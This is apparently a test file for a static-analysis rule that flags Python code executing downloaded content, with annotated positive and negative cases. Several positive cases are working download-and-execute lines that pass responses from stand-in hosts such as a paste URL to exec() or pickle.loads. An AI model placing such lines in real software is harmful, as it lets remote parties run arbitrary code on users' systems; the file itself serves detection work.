import pickle
import urllib.request

import requests

# ruleid: py-exec-downloaded-code
exec(requests.get("https://example.invalid/stage2.py").text)

resp = urllib.request.urlopen(UPDATE_URL)
# ruleid: py-exec-downloaded-code
exec(resp.read().decode())

# ruleid: py-exec-downloaded-code
state = pickle.loads(requests.get(STATE_URL, timeout=5).content)

# ok: py-exec-downloaded-code
data = requests.get("https://api.example.invalid/v1/items", timeout=5).json()

# ok: py-exec-downloaded-code
exec(compile(open("version.py").read(), "version.py", "exec"), ns)

import requests as _r
# ruleid: py-exec-downloaded-code
exec(_r.get("https://paste.example.invalid/r/a8Fk2", timeout=5).text)
# ok: py-exec-downloaded-code
cfg = _r.get("https://api.example.invalid/cfg", timeout=5).json()
